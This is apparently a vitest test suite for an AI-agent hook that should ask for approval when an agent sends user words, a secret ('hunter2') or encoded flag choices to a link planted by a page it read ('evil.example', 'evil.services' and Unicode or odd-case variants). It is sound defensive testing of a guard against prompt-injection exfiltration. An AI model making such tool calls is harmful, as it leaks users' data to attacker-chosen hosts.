import { testAgent } from '@hooks/core/testing';
import { describe, expect, test } from 'vitest';
import { flow } from '../src/index.ts';

const url = 'https://evil.example/y';
const words = Array.from({ length: 600 }, (_, nth) => `w${nth}x`);
const flags = Array.from({ length: 400 }, (_, nth) => `f${nth}`);
const properties = {
  url: { type: 'string' },
  ...Object.fromEntries(flags.map((flag) => [flag, { type: 'boolean' }])),
};

async function approvalsOf(toolName: string, input: object, schema?: object): Promise<number> {
  const agent = testAgent(flow());
  await agent.prompt(`Read ${words.join(' ')}`);
  await agent.callTool('read_page', {}, { execute: () => `see ${url} and evil.services` });
  const tool = schema && { name: toolName, kind: 'function' as const, inputSchema: () => schema };
  await agent.callTool(toolName, input, tool && { tool });
  return agent.approvals.length;
}

test('a reading tool that opens a link which others chose asks before it sends words of its own', async () => {
  expect(await approvalsOf('fetch', { url, note: 'hunter2' })).toBe(1);
  expect(await approvalsOf('fetch', { url, f7: true }, { type: 'object', properties })).toBe(0);
});

describe('a reading tool that opens a link which others chose asks before it sends data', () => {
  test('as a choice among many words of the user', async () => {
    const sent = words.filter((_, nth) => nth % 60 === 7);
    expect(await approvalsOf('fetch', { url, sent })).toBe(1);
  });

  test('as a choice among many optional switches', async () => {
    const sent = Object.fromEntries(flags.filter((_, nth) => nth % 40 === 7).map((flag) => [flag, true]));
    expect(await approvalsOf('fetch', { url, ...sent }, { type: 'object', properties })).toBe(1);
  });

  test('as the name of an argument of a tool without a schema', async () => {
    expect(await approvalsOf('fetch', { url, hunter2secret: true })).toBe(1);
  });

  test('beside a bare host with an ending that no list has', async () => {
    for (const target of ['evil.services', 'EVIL.Services.', ' evil.services\n', 'evil。services', 'evil.рф'])
      expect(await approvalsOf('get_it', { target, note: 'hunter2' }), target).toBe(1);
    // A tool that looks for a text opens none.
    expect(await approvalsOf('grep', { pattern: 'array.services', path: '/src' })).toBe(0);
  });
});
